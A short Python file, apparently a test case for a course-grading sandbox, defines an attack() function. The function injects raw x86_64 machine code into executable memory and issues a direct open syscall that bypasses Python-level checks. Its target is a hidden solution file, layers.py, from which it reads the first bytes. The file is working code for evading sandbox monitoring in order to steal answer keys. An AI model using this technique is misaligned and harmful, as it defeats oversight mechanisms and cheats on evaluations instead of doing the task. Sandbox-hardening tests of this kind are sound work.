"""System calls from machine code, past every Python check."""

import ctypes
import mmap
import os


def attack():
    if os.uname().machine != "x86_64":
        return None
    path = ctypes.create_string_buffer(b"@COURSE@/solutions/regularization/layers.py")
    # mov eax, 2 (open); mov rdi, imm64; xor esi, esi; xor edx, edx; syscall; ret
    code = bytes.fromhex("b80200000048bf") + ctypes.addressof(path).to_bytes(8, "little") + bytes.fromhex("31f631d20f05c3")
    memory = mmap.mmap(-1, 4096, prot=7)
    memory.write(code)
    fd = ctypes.CFUNCTYPE(ctypes.c_long)(ctypes.addressof(ctypes.c_char.from_buffer(memory)))()
    if fd >= 0:
        return os.read(fd, 100)
